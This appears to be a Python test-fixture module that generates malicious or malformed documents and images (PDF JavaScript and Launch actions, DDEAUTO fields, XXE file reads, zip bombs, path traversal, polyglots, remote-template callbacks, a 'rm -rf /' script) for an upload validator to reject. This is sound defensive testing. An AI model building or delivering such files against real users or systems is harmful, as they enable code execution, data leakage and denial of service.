"""Files that must be refused, made from the good samples when a test asks for one: name -> (bytes, extension, code)."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from PIL import Image

HERE = Path(__file__).resolve().parent
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
Bad = tuple[bytes, str, str]
BAD: dict[str, Callable[[], Bad]] = {}


def bad(code: str, extension: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        BAD[make.__name__] = lambda: (make(), extension, code)
        return make

    return register


def sample(name: str) -> bytes:
    return (HERE / name).read_bytes()


def rezip(
    name: str, change: dict[str, bytes] | None = None, edit: Callable[[str, bytes], bytes] = lambda _n, d: d
) -> bytes:
    """The sample package with parts added or replaced (`change`) or edited; mimetype stays first and stored."""
    out = io.BytesIO()
    with zipfile.ZipFile(HERE / name) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        parts = {part.filename: old.read(part) for part in old.infolist()} | (change or {})
        for part, data in parts.items():
            stored = zipfile.ZIP_STORED if part == "mimetype" else zipfile.ZIP_DEFLATED
            new.writestr(part, edit(part, data), stored)
    return out.getvalue()


def replace_in(name: str, part: str, old: str, new: str) -> bytes:
    def edit(at: str, data: bytes) -> bytes:
        if at != part:
            return data
        assert old.encode() in data, f"{old} is not in {part}"
        return data.replace(old.encode(), new.encode(), 1)

    return rezip(name, edit=edit)


def pdf(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(HERE / "verslag.pdf") as document:
        change(document)
        document.save(out, **options)
    return out.getvalue()


def a_zip(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def png_header(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    rows = zlib.compress(b"\0" * ((width // 8 + 1) * height), 9)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


# --- nothing, and the wrong thing ------------------------------------------------------------------------------------


@bad("empty", "pdf")
def empty_file() -> bytes:
    return b""


@bad("empty", "txt")
def text_of_spaces() -> bytes:
    return b"  \r\n \t\n"


@bad("unknown_kind", "pdf")
def windows_program() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200)


@bad("unknown_kind", "jpg")
def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    return out.getvalue()


@bad("wrong_extension", "pdf")
def jpeg_called_pdf() -> bytes:
    return sample("foto.jpg")


@bad("wrong_extension", "docx")
def xlsx_called_docx() -> bytes:
    return sample("scores.xlsx")


@bad("archive", "docx")
def plain_zip_called_docx() -> bytes:
    return a_zip(**{"brief.txt": b"een brief"})


@bad("unknown_kind", "odt")
def odt_template() -> bytes:
    return rezip("verslag.odt", {"mimetype": b"application/vnd.oasis.opendocument.text-template"})


@bad("old_office", "docx")
def old_word_file() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024) + "WordDocument".encode("utf-16-le") + bytes(512)


# --- PDF -------------------------------------------------------------------------------------------------------------


@bad("encrypted", "pdf")
def pdf_with_password() -> bytes:
    return pdf(lambda _d: None, encryption=pikepdf.Encryption(owner="o", user="geheim"))


@bad("encrypted", "pdf")
def pdf_with_owner_password_only() -> bytes:
    return pdf(lambda _d: None, encryption=pikepdf.Encryption(owner="o", user=""))


@bad("active_content", "pdf")
def pdf_with_javascript_on_opening() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    return pdf(change)


@bad("active_content", "pdf")
def pdf_with_javascript_in_object_streams() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        action = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
        document.pages[0].obj.AA = pikepdf.Dictionary(O=action)

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@bad("active_content", "pdf")
def pdf_with_a_hidden_name_of_javascript() -> bytes:
    """Written by hand: the dangerous name is spelt in hexadecimal."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    return _hand_made(objects)


def _hand_made(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


@bad("active_content", "pdf")
def pdf_that_starts_a_program() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")

    return pdf(change)


@bad("active_content", "pdf")
def pdf_that_sends_its_form_away() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        button = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://voorbeeld.invalid/"),
        )
        document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(button)])

    return pdf(change)


@bad("active_content", "pdf")
def pdf_with_a_link_that_is_a_script() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="JavaScript:alert(1)"),
        )
        document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])

    return pdf(change)


@bad("active_content", "pdf")
def pdf_with_xfa_form() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pikepdf.Stream(document, b"<xdp/>"))

    return pdf(change)


@bad("embedded_file", "pdf")
def pdf_with_attachment() -> bytes:
    return pdf(lambda d: d.attachments.__setitem__("bijlage.txt", b"verborgen"))


@bad("external_content", "pdf")
def pdf_that_opens_another_file() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="\\\\server\\deel\\x.pdf", D=[0, pikepdf.Name.Fit])
        document.pages[0].obj.AA = pikepdf.Dictionary(O=link)

    return pdf(change)


@bad("broken", "pdf")
def pdf_cut_in_half() -> bytes:
    return sample("verslag.pdf")[:9000]


@bad("broken", "pdf")
def pdf_with_a_wrong_cross_reference() -> bytes:
    data = sample("verslag.pdf")
    at = data.rindex(b"startxref")
    return data[:at] + b"startxref\n1\n%%EOF\n"


@bad("broken", "pdf")
def pdf_without_pages() -> bytes:
    return _hand_made([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


@bad("broken", "pdf")
def pdf_whose_pages_go_round_in_circles() -> bytes:
    return _hand_made([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])


@bad("too_many_pages", "pdf")
def pdf_of_600_pages() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        for _ in range(600):
            document.add_blank_page(page_size=(200, 200))

    return pdf(change)


@bad("too_many_pixels", "pdf")
def pdf_with_a_huge_image() -> bytes:
    image = b"<< /Type /XObject /Subtype /Image /Width 90000 /Height 90000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Length 0 >>\nstream\n\nendstream"
    return _hand_made(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            image,
        ]
    )


@bad("bomb", "pdf")
def pdf_whose_page_unpacks_without_end() -> bytes:
    """Two layers of Flate: a kilobyte that becomes 100 megabytes of drawing."""
    engine = zlib.compressobj(9)
    page = b"".join(engine.compress(b"q Q\n" * 262_144) for _ in range(100)) + engine.flush()
    page = zlib.compress(page, 9)
    return _hand_made(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%b\nendstream" % (len(page), page),
        ]
    )


@bad("polyglot", "pdf")
def pdf_with_zip_behind_it() -> bytes:
    return sample("verslag.pdf") + a_zip(**{"verborgen.txt": b"x"})


@bad("polyglot", "pdf")
def pdf_with_zip_in_a_last_comment() -> bytes:
    return sample("verslag.pdf") + a_zip(**{"verborgen.txt": b"x"})[:-2] + b"\x06\x00\n%%EOF"


# --- DOCX and XLSX ---------------------------------------------------------------------------------------------------


@bad("macro", "docx")
def docx_with_vba() -> bytes:
    return rezip("verslag.docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)})


@bad("macro", "docx")
def docm_called_docx() -> bytes:
    return replace_in(
        "verslag.docx",
        "[Content_Types].xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )


@bad("macro", "xlsx")
def xlsx_with_old_macro_sheet() -> bytes:
    return rezip("scores.xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"})


@bad("encrypted", "docx")
def docx_with_password() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016) + "EncryptedPackage".encode("utf-16-le") + bytes(4000)


@bad("encrypted", "docx")
def docx_in_a_zip_with_password() -> bytes:
    data = bytearray(sample("verslag.docx"))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


@bad("external_content", "docx")
def docx_with_remote_template() -> bytes:
    return rezip(
        "verslag.docx",
        {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://voorbeeld.invalid/x.dotm")},
    )


@bad("external_content", "docx")
def docx_with_template_on_a_server() -> bytes:
    return rezip(
        "verslag.docx", {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "\\\\server\\deel\\x.dotm")}
    )


@bad("external_content", "docx")
def docx_with_remote_picture() -> bytes:
    return rezip("verslag.docx", {"word/_rels/x.xml.rels": relationship("image", "https://voorbeeld.invalid/volg.png")})


@bad("active_content", "docx")
def docx_with_a_link_that_is_a_script() -> bytes:
    return rezip("verslag.docx", {"word/_rels/x.xml.rels": relationship("hyperlink", "javascript:alert(1)")})


def relationship(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


def field(*runs: str) -> str:
    texts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{texts}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'


@bad("active_content", "docx")
def docx_with_dde_spread_over_runs() -> bytes:
    return replace_in("verslag.docx", "word/document.xml", "<w:sectPr", field(" D", "DEA", "UTO c:\\x.exe "))


@bad("active_content", "docx")
def docx_with_dde_in_a_simple_field_behind_spaces() -> bytes:
    simple = f'<w:p><w:fldSimple w:instr="{" " * 50_000}DDEAUTO c:"/></w:p><w:sectPr'
    return replace_in("verslag.docx", "word/document.xml", "<w:sectPr", simple)


@bad("active_content", "docx")
def docx_with_dde_behind_spaces() -> bytes:
    return replace_in("verslag.docx", "word/document.xml", "<w:sectPr", field(" " * 50_000, "DDE c:"))


@bad("external_content", "docx")
def docx_that_includes_a_remote_picture_by_field() -> bytes:
    return replace_in(
        "verslag.docx", "word/document.xml", "<w:sectPr", field('INCLUDEPICTURE "http://voorbeeld.invalid/p"')
    )


@bad("embedded_file", "docx")
def docx_with_ole_object() -> bytes:
    return rezip("verslag.docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)})


@bad("embedded_file", "docx")
def docx_with_program_called_picture() -> bytes:
    return rezip("verslag.docx", {"word/media/image1.png": b"MZ" + bytes(600)})


@bad("embedded_file", "docx")
def docx_with_unknown_part() -> bytes:
    return rezip("verslag.docx", {"word/media/iets.exe": b"iets"})


@bad("nested_archive", "docx")
def docx_with_zip_inside() -> bytes:
    return rezip("verslag.docx", {"word/media/image1.png": a_zip(**{"a.txt": b"a"})})


@bad("active_content", "docx")
def docx_with_entities() -> bytes:
    bomb = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'
    return rezip("verslag.docx", {"customXml/item1.xml": bomb})


@bad("active_content", "docx")
def docx_with_entities_in_utf16() -> bytes:
    bomb = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY a "ha">]><a>&a;</a>'.encode("utf-16")
    return rezip("verslag.docx", {"customXml/item1.xml": bomb})


@bad("bomb", "docx")
def docx_with_deep_xml() -> bytes:
    return rezip("verslag.docx", {"customXml/item1.xml": b"<a>" * 5000 + b"</a>" * 5000})


@bad("active_content", "docx")
def docx_with_a_drawing_that_reads_a_file() -> bytes:
    return rezip(
        "verslag.docx",
        {"word/media/a.svg": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg><text>&x;</text></svg>'},
    )


@bad("active_content", "docx")
def docx_with_a_drawing_that_runs_a_script() -> bytes:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    return rezip("verslag.docx", {"word/media/a.svg": svg})


@bad("external_content", "docx")
def docx_with_a_drawing_that_loads_a_picture() -> bytes:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://voorbeeld.invalid/volg.png"/></svg>'
    return rezip("verslag.docx", {"word/media/a.svg": svg})


@bad("bomb", "docx")
def docx_that_is_a_zip_bomb() -> bytes:
    return rezip("verslag.docx", {"word/media/image1.png": b"\x89PNG" + bytes(90 * 1024 * 1024)})


@bad("bomb", "docx")
def docx_with_too_many_parts() -> bytes:
    return rezip("verslag.docx", {f"customXml/item{n}.xml": b"<a/>" for n in range(6000)})


@bad("path_trick", "docx")
def docx_with_a_path_upwards() -> bytes:
    return rezip("verslag.docx", {"word/../../../etc/passwd.xml": b"<a/>"})


@bad("path_trick", "docx")
def docx_with_an_absolute_path() -> bytes:
    return rezip("verslag.docx", {"/etc/passwd.xml": b"<a/>"})


@bad("path_trick", "docx")
def docx_with_a_windows_path() -> bytes:
    return rezip("verslag.docx", {"word\\..\\x.xml": b"<a/>"})


@bad("path_trick", "docx")
def docx_with_one_name_twice() -> bytes:
    return rezip("verslag.docx", {"Word/Document.xml": b"<a/>"})


@bad("path_trick", "docx")
def docx_with_symbolic_link() -> bytes:
    out = io.BytesIO(sample("verslag.docx"))
    with zipfile.ZipFile(out, "a") as package:
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return out.getvalue()


@bad("polyglot", "docx")
def docx_with_data_between_parts_and_directory() -> bytes:
    return _insert_at_first_gap(sample("verslag.docx"))


def _insert_at_first_gap(data: bytes) -> bytes:
    """Bytes between the last part and the directory, with the end record adapted: hidden from every unzip program."""
    start = data.index(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    hidden = b"verborgen gegevens"
    record = bytearray(data[end:])
    record[16:20] = struct.pack("<I", start + len(hidden))
    return data[:start] + hidden + data[start:end] + bytes(record)


@bad("polyglot", "docx")
def docx_with_data_behind_it() -> bytes:
    return sample("verslag.docx") + b"verborgen"


@bad("polyglot", "docx")
def docx_with_zip_comment() -> bytes:
    out = io.BytesIO(sample("verslag.docx"))
    with zipfile.ZipFile(out, "a") as package:
        package.comment = b"verborgen"
    return out.getvalue()


@bad("polyglot", "docx")
def docx_with_pdf_in_front_of_the_reader() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(HERE / "verslag.docx") as old, zipfile.ZipFile(out, "w") as new:
        new.writestr("word/media/image1.png", b"...%PDF-1.4")
        for part in old.infolist():
            new.writestr(part.filename, old.read(part))
    return out.getvalue()


@bad("broken", "docx")
def docx_cut_off() -> bytes:
    return sample("verslag.docx")[:-400]


@bad("broken", "docx")
def docx_with_a_wrong_checksum() -> bytes:
    data = bytearray(rezip("verslag.docx", {"customXml/item1.xml": b"<a/>"}))
    at = data.rindex(b"PK\x01\x02")
    local = struct.unpack_from("<I", data, at + 42)[0]
    data[at + 16] ^= 0xFF
    data[local + 14] ^= 0xFF
    return bytes(data)


@bad("broken", "docx")
def docx_with_unclosed_xml() -> bytes:
    return rezip("verslag.docx", {"customXml/item1.xml": b"<a><b></a>"})


@bad("polyglot", "docx")
def docx_and_xlsx_in_one() -> bytes:
    with zipfile.ZipFile(HERE / "scores.xlsx") as other:
        parts = {part.filename: other.read(part) for part in other.infolist() if part.filename.startswith("xl/")}
    both = "/word/document.xml"
    types = (
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        f'spreadsheetml.sheet.main+xml"/><Override PartName="{both}"'
    )
    with zipfile.ZipFile(HERE / "verslag.docx") as package:
        old = package.read("[Content_Types].xml").decode()
    assert f'<Override PartName="{both}"' in old
    return rezip(
        "verslag.docx", parts | {"[Content_Types].xml": old.replace(f'<Override PartName="{both}"', types).encode()}
    )


@bad("polyglot", "pdf")
def pdf_with_bytes_before_it() -> bytes:
    return b"\x00\x01" + sample("verslag.pdf")


@bad("external_content", "xlsx")
def xlsx_with_link_to_another_file() -> bytes:
    return rezip("scores.xlsx", {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


@bad("external_content", "xlsx")
def xlsx_with_formula_that_calls_home() -> bytes:
    return replace_in(
        "scores.xlsx",
        "xl/worksheets/sheet1.xml",
        "<v>27</v>",
        '<f>WEBSERVICE("http://voorbeeld.invalid/")</f><v>27</v>',
    )


# --- ODT -------------------------------------------------------------------------------------------------------------


@bad("macro", "odt")
def odt_with_basic() -> bytes:
    return rezip("verslag.odt", {"Basic/Standard/Module1.xml": b"<script/>", "Basic/script-lc.xml": b"<a/>"})


@bad("macro", "odt")
def odt_with_python_script() -> bytes:
    return rezip("verslag.odt", {"Scripts/python/x.xml": b"<a/>"})


@bad("macro", "odt")
def odt_that_calls_a_macro_on_opening() -> bytes:
    listener = (
        '<office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'script:event-name="dom:load"/></office:event-listeners></office:scripts><office:font-face-decls>'
    )
    return replace_in("verslag.odt", "content.xml", "<office:font-face-decls>", listener)


@bad("encrypted", "odt")
def odt_with_password() -> bytes:
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        'manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>'
    )
    return rezip("verslag.odt", {"META-INF/manifest.xml": manifest.encode(), "content.xml": bytes(range(256)) * 9})


@bad("external_content", "odt")
def odt_with_remote_picture() -> bytes:
    picture = '<draw:frame xmlns:draw="d"><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://voorbeeld.invalid/p.png"/></draw:frame></office:text>'
    return replace_in("verslag.odt", "content.xml", "</office:text>", picture)


@bad("external_content", "odt")
def odt_that_links_a_file_next_to_it() -> bytes:
    section = '<text:section xmlns:text="t"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="../geheim.odt"/></text:section></office:text>'
    return replace_in("verslag.odt", "content.xml", "</office:text>", section)


@bad("embedded_file", "odt")
def odt_with_ole_object() -> bytes:
    return rezip("verslag.odt", {"ObjectReplacements/Object 1": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)})


@bad("broken", "odt")
def odt_without_manifest() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", "<a/>")
    return out.getvalue()


# --- RTF and TXT -----------------------------------------------------------------------------------------------------


def rtf(inside: bytes) -> bytes:
    return b"{\\rtf1\\ansi Tekst " + inside + b"}"


@bad("embedded_file", "rtf")
def rtf_with_object() -> bytes:
    return rtf(b"{\\object\\objemb{\\*\\objdata 0105}}")


@bad("embedded_file", "rtf")
def rtf_with_binary_data() -> bytes:
    return rtf(b"{\\pict\\bin4 abcd}")


@bad("external_content", "rtf")
def rtf_with_remote_template() -> bytes:
    return rtf(b"{\\*\\template http://voorbeeld.invalid/x}")


@bad("active_content", "rtf")
def rtf_with_dde_field() -> bytes:
    return rtf(b"{\\field{\\*\\fldinst DDEAUTO c:\\\\x.exe}}")


@bad("active_content", "rtf")
def rtf_with_dde_field_in_pieces() -> bytes:
    return rtf(b"{\\field{\\*\\fldinst {\\b D}\r\n{DE\\'41}{\\u85 ?TO} c:\\\\x.exe}}")


@bad("external_content", "rtf")
def rtf_with_remote_picture() -> bytes:
    return rtf(b'{\\field{\\*\\fldinst { INCLUDEPICTURE "http://voorbeeld.invalid/p" }}}')


@bad("polyglot", "rtf")
def rtf_with_data_behind_it() -> bytes:
    return rtf(b"") + b"MZ..."


@bad("broken", "rtf")
def rtf_cut_off() -> bytes:
    return rtf(b"{\\b vet}")[:-3]


@bad("polyglot", "txt")
def html_called_txt() -> bytes:
    return b"Verslag\n<SCRIPT>alert(1)</SCRIPT>\n"


@bad("polyglot", "txt")
def html_called_txt_in_utf16() -> bytes:
    return "Verslag <html><body>".encode("utf-16")


@bad("polyglot", "txt")
def shell_script_called_txt() -> bytes:
    return b"#!/bin/sh\nrm -rf /\n"


@bad("unknown_kind", "txt")
def bytes_called_txt() -> bytes:
    return b"gewone tekst\x00\x01\x02"


@bad("unknown_kind", "txt")
def broken_utf16_called_txt() -> bytes:
    return b"\xff\xfea\x00\x00\xd8b"


@bad("polyglot", "txt")
def pdf_behind_a_line_of_text() -> bytes:
    return b"Een regel tekst\n" + b"%PDF-1.4 enzovoort"


# --- images ----------------------------------------------------------------------------------------------------------


@bad("too_many_pixels", "png")
def png_of_60_megapixels() -> bytes:
    return png_header(10_000, 6_000)


@bad("broken", "png")
def png_cut_off() -> bytes:
    return sample("scan.png")[:-30]


@bad("broken", "png")
def png_with_a_wrong_checksum() -> bytes:
    data = bytearray(sample("scan.png"))
    data[60] ^= 0xFF
    return bytes(data)


@bad("animated", "png")
def moving_png() -> bytes:
    out = io.BytesIO()
    frame = Image.new("L", (8, 8))
    frame.save(out, "PNG", save_all=True, append_images=[Image.new("L", (8, 8), 200)])
    return out.getvalue()


@bad("polyglot", "png")
def png_with_data_behind_it() -> bytes:
    return sample("scan.png") + b"verborgen"


@bad("polyglot", "jpg")
def jpeg_with_zip_behind_it() -> bytes:
    return sample("foto.jpg") + a_zip(**{"a.class": b"\xca\xfe\xba\xbe"})


@bad("polyglot", "jpg")
def jpeg_with_second_picture_behind_it() -> bytes:
    return sample("foto.jpg") + sample("foto.jpg")


def with_more_announced(data: bytes) -> bytes:
    """A JPEG with the segment that announces further pictures behind it, as telephones write it."""
    return data[:2] + b"\xff\xe2\x00\x08MPF\x00II" + data[2:]


@bad("polyglot", "jpg")
def jpeg_with_an_announced_second_picture_as_large() -> bytes:
    return with_more_announced(sample("foto.jpg")) + sample("foto.jpg")


@bad("animated", "jpg")
def jpeg_with_film_behind_it() -> bytes:
    return sample("foto.jpg") + b"\x00\x00\x00\x18ftypmp42" + bytes(4000)


@bad("polyglot", "jpg")
def jpeg_with_pdf_in_its_comment() -> bytes:
    data = sample("foto.jpg")
    return data[:2] + b"\xff\xfe\x00\x0b%PDF-1.4\n" + data[2:]


@bad("broken", "jpg")
def jpeg_cut_off() -> bytes:
    return sample("foto.jpg")[:5000]


@bad("broken", "jpg")
def jpeg_of_three_bytes() -> bytes:
    return b"\xff\xd8\xff"


@bad("polyglot", "tiff")
def tiff_with_zip_behind_it() -> bytes:
    return sample("scan.tiff") + a_zip(**{"a.txt": b"a"})


@bad("broken", "tiff")
def tiff_cut_off() -> bytes:
    return sample("scan.tiff")[:4000]


@bad("too_many_pages", "tiff")
def tiff_whose_frames_never_end() -> bytes:
    """600 frames; one that points back to itself is cut short by Pillow."""
    out = io.BytesIO()
    frame = Image.new("1", (8, 8))
    frame.save(out, "TIFF", save_all=True, append_images=[frame] * 599)
    return out.getvalue()
